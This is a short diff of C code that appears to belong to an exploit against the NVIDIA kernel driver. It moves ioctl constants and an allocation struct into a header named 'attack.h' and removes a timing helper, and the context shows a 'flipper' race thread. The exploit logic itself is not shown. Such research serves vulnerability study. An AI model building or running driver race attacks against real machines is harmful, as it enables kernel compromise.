@@ -20,15 +20,7 @@
 #include <sys/ioctl.h>
 #include <time.h>
 
-#define NV_IOCTL_MAGIC		'F'
-#define NV_ESC_RM_ALLOC		0x2B
-#define NV_ESC_IOCTL_XFER_CMD	211
-
-struct nvos21 {
-	uint32_t h_root, h_parent, h_new, h_class;
-	uint64_t p_alloc_parms;
-	uint32_t params_size, status;
-};
+#include "attack.h"
 
 struct xfer {
 	uint32_t cmd, size;
@@ -50,14 +42,6 @@ static void *flipper(void *arg)
 		(*flips)++;
 	}
 	return NULL;
-}
-
-static double now(void)
-{
-	struct timespec ts;
-
-	clock_gettime(CLOCK_MONOTONIC, &ts);
-	return ts.tv_sec + ts.tv_nsec / 1e9;
 }
 
 int main(int argc, char **argv)
